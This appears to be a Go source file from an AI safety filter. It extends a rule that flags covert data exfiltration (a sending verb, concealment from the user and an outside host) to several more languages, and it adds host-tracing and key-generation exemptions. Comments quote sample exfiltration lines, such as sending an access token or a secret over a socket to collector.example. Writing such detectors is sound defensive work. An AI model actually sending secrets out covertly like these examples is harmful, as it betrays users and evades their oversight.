package safety

import "strings"

// Round 67 (exfil): covert sending in Lao, Punjabi, Cantonese, Kannada,
// Kinyarwanda and Malagasy.
//
// The principle is actionCovertSend's (prose38.go): a sending verb, a
// concealment from the user and a fixed place outside, in one statement,
// is covert sending whatever the language. These languages' words for
// "send to / upload" and for "secretly / without telling the user / no
// need to tell the user" were not in the lists. Read by actionCovertSend
// only, so only all three together refuse: "send the report to
// accounts@firm.example" with no concealment, or "don't tell anyone the
// password" with no send, stays allowed.
func init() {
	covertSendML = append(covertSendML, lowerStems(
		// Lao: send to, send for, upload
		"ສົ່ງໄປ", "ສົ່ງໃຫ້", "ອັບໂຫລດ", "ອັບໂຫຼດ",
		// Punjabi (Gurmukhi): upload, send
		"ਅੱਪਲੋਡ ਕਰ", "ਅਪਲੋਡ ਕਰ", "ਭੇਜੋ", "ਭੇਜ ਦਿਓ", "ਭੇਜ ਦੇਵੋ",
		// Cantonese: send over, upload to
		"傳去", "傳俾", "發去", "上載去", "上載到", "上傳去",
		// Kannada: send, upload
		"ಕಳುಹಿಸು", "ಕಳುಹಿಸಿ", "ಕಳಿಸಿ", "ಕಳಿಸು", "ಅಪ್‌ಲೋಡ್ ಮಾಡ", "ಅಪ್ಲೋಡ್ ಮಾಡ",
		// Kinyarwanda: send (imperative; the stems are read from a word's
		// start, so the verb with its subject and object prefixes)
		"ohereza", "oherereza", "wohereze", "yohereze", "uyohereze", "ubyohereze", "uzohereze", "ubohereze", "ubwohereze",
		"muyohereze", "mubyohereze", "muzohereze", "uyoherereze", "ubyoherereze", "uzoherereze",
		// Malagasy: send it, send them
		"alefaso", "alefao", "andefaso", "alefa any")...)
	covertStealthML = append(covertStealthML, lowerStems(
		// Lao: secretly, don't tell, without telling
		"ຢ່າງລັບໆ", "ແບບລັບໆ", "ຢ່າບອກ", "ບໍ່ຕ້ອງບອກ", "ໂດຍບໍ່ບອກ", "ໂດຍບໍ່ແຈ້ງ",
		// Punjabi: no need to tell, don't tell, without telling, quietly
		"ਦੱਸਣ ਦੀ ਲੋੜ ਨਹੀਂ", "ਦੱਸਣ ਦੀ ਕੋਈ ਲੋੜ ਨਹੀਂ", "ਨਾ ਦੱਸੋ", "ਨਾ ਦੱਸਿਓ", "ਦੱਸੇ ਬਿਨਾਂ", "ਬਿਨਾਂ ਦੱਸੇ", "ਚੁੱਪ-ਚਾਪ", "ਚੁੱਪਚਾਪ",
		// Cantonese: don't tell, no need to tell, on the quiet
		"唔好話俾", "唔好講俾", "唔使話俾", "唔好俾佢知", "唔好俾用戶知", "靜靜雞", "偷偷哋",
		// Kannada: don't tell, without telling, secretly
		"ಹೇಳಬೇಡ", "ತಿಳಿಸಬೇಡ", "ಹೇಳದೆ", "ತಿಳಿಸದೆ", "ಗುಟ್ಟಾಗಿ", "ರಹಸ್ಯವಾಗಿ",
		// Kinyarwanda: without telling (him / it), don't tell, secretly
		"utabibwiye", "utabwiye", "utamubwiye", "utabimenyesheje", "ntubibwire", "ntumubwire", "rwihishwa", "mu ibanga",
		// Malagasy: not told, don't tell, secretly
		"tsy lazaina", "aza lazaina", "aza ilazana", "tsy ampahafantarina", "aza ampahafantarina", "mangingina", "an-tsokosoko")...)
}

// Kinyarwanda and Malagasy are typed in plain ASCII, so the action rules
// skip a statement in them as English unless two of their function words
// mark it. Kinyarwanda: "kuri" (to, on), "muri" (in), "rya", "rwa"
// (of), "cyangwa" (or), "kandi" (and), "nyuma" (after), "yaho" (there),
// "biri" (that are), "yose", "bose" (all); Malagasy: "ny" (the), "sy"
// (and), "ary" (and), "ao", "eo" (there), "rehetra" (all), "tsy" (not),
// "dia" (then), "izay" (which), "amin'ny" (to the). None is an English
// word.
func init() {
	registerActionLexicon("rw+r67-exfil", actionLex{
		markers: []string{"kuri", "muri", "rya", "rwa", "cyangwa", "kandi", "nyuma", "yaho", "biri", "yose", "bose"},
	})
	registerActionLexicon("mg+r67-exfil", actionLex{
		markers: []string{"ny", "sy", "ary", "ao", "eo", "rehetra", "tsy", "dia", "izay", "amin'ny"},
	})
}

// Round 67 (exfil-prose): "the token endpoint" is a place, not a token.
//
// OAuth's token endpoint (and an authorization server's token URL) is
// where a client exchanges its grant for a token: "POST to the token
// endpoint" names the provider's own door, the word "token" saying what
// the endpoint issues, as "password reset" says what a link does. A
// secret's name followed by endpoint, URL or URI is read as the place's
// name (secretNouns, aboutSecret): "POST the access token to
// https://collector.example" still names the token as what is sent.
func init() {
	aboutSecret = orAtStart(aboutSecret, `(?i)^s?[\s-]+(?:endpoints?|urls?|uris?)\b`)
}

// Round 67 (exfil-flow): making a key sends nothing.
//
// "ssh-keygen -t ed25519 -f ~/.ssh/edi_sftp_2026 -C 'edi-sftp key'"
// creates a key pair on the machine; a network tool's name inside the
// key's file name or comment is a label, not a command. A statement that
// is one key-generating command alone (no pipe, no second command, no
// substitution, no redirection into a socket) has no network sink;
// "ssh-keygen -y -f key | curl ..." or "... && scp key host:" still does.
var keygenCmd67 = lazyRegexp(`(?i)^\s*(?:sudo\s+)?(?:ssh-keygen|age-keygen|wg\s+genkey|minisign\s+-G|signify\s+-G|gpg2?\s+--(?:quick-)?(?:full-)?gen(?:erate)?-key|openssl\s+(?:genrsa|genpkey|ecparam|req\s+-new|req\s+-x509))\b`)

func keygenOnly67(t string) bool {
	return !strings.ContainsAny(t, "|;&`\n") && !strings.Contains(t, "$(") && !strings.Contains(t, "/dev/tcp") && !strings.Contains(t, "/dev/udp") && keygenCmd67.MatchString(t)
}

// Round 67 (exfil-flow): a socket sends to the address it was opened to.
//
// "s = socket.create_connection(('collector.example', 4444))" and, lines
// later, "s.sendall(secret)": the send names no host, the handle carries
// the one it was opened to, so the secret goes there, as it would in
// requests.post(url, data=secret). When a secret reaches a handle's send
// and the statement names no host, the address tuple (a quoted host or
// IP and a port) on the line that opened or connected that handle, a few
// lines up, is the destination; the vendor rules then judge it as any
// other host (an unknown host is outside, the secret's own provider is
// not).
var addrTuple67 = lazyRegexp(`["']((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})["']\s*,\s*\d{2,5}\b`)

func handleHost67(d *doc, u unit, t string, sink []int) (string, bool) {
	// The handle: the name before the method's dot ("s" of s.sendall(),
	// the sink found at the dot or at the name).
	i, j := sink[0], sink[0]
	for j < len(t) && isIdentByte(t[j]) {
		j++
	}
	if j >= len(t) || t[j] != '.' {
		return "", false
	}
	for i > 0 && isIdentByte(t[i-1]) {
		i--
	}
	h := t[i:j]
	if h == "" {
		return "", false
	}
	text := d.v.text[max(0, u.start-8000):u.start]
	for n := 0; n < 60 && text != ""; n++ {
		k := strings.LastIndexByte(text, '\n')
		line := text[k+1:]
		text = text[:max(k, 0)]
		if k < 0 {
			text = ""
		}
		if strings.HasPrefix(strings.TrimSpace(line), "```") {
			break // the block's start: no handle opened above it counts
		}
		if len(line) > 400 || !strings.Contains(line, h) || !strings.Contains(line, ",") {
			continue
		}
		opened := false
		if m := sinkHandleRe.FindStringSubmatch(line); m != nil && m[1] == h {
			opened = true
		}
		if c := strings.Index(line, h+".connect("); c >= 0 && identAt(line, c, len(h)) {
			opened = true
		}
		if !opened {
			continue
		}
		if m := addrTuple67.FindStringSubmatch(line); m != nil {
			return strings.ToLower(m[1]), true
		}
		return "", false
	}
	return "", false
}

// Round 67 (exfil-prose): "don't tell <them> anything" and "without
// <them> knowing", with the party named between.
//
// Haitian Creole says "pa di elèv yo anyen" (don't tell the pupils
// anything) and "san moun yo pa konnen" (without the people knowing);
// French, Spanish and Portuguese say "sans que le client le sache", "sin
// que el usuario se entere", "sem que o cliente saiba". The party in the
// gap varies, the frame hides the act from them, as the fixed phrases in
// covertStealthML do. Read at each opening word on a bounded window (a
// long line stays linear), and only where actionCovertSend reads it:
// beside a sending verb and a fixed place outside.
var covertFrame67 = lazyRegexp(`^(?:pa\s+di\s+(?:[\pL'’-]+\s+){0,4}?anyen\b|san\s+(?:[\pL'’-]+\s+){0,4}?pa\s+(?:konnen|konn|wè|remake)\b|sans\s+que\s+(?:[\pL'’-]+\s+){0,4}?(?:ne\s+)?(?:le\s+|l'|s'en\s+)?(?:sache|sachent|remarque|remarquent|aperçoive|aperçoivent|rende\s+compte)\b|sin\s+que\s+(?:[\pL'’-]+\s+){0,4}?(?:lo\s+|se\s+)?(?:sepa|sepan|entere|enteren|note|noten|dé\s+cuenta)\b|sem\s+que\s+(?:[\pL'’-]+\s+){0,4}?(?:o\s+|se\s+)?(?:saiba|saibam|perceba|percebam|note|notem|dê\s+conta)\b)`)

func covertFrameIn67(low string) bool {
	for _, w := range []string{"pa di ", "san ", "sans que ", "sin que ", "sem que "} {
		for i, n := 0, 0; n < 8; n++ {
			k := strings.Index(low[i:], w)
			if k < 0 {
				break
			}
			k += i
			if (k == 0 || !isLetterByteBefore59(low, k)) && covertFrame67.MatchString(low[k:min(len(low), k+140)]) {
				return true
			}
			i = k + len(w)
		}
	}
	return false
}
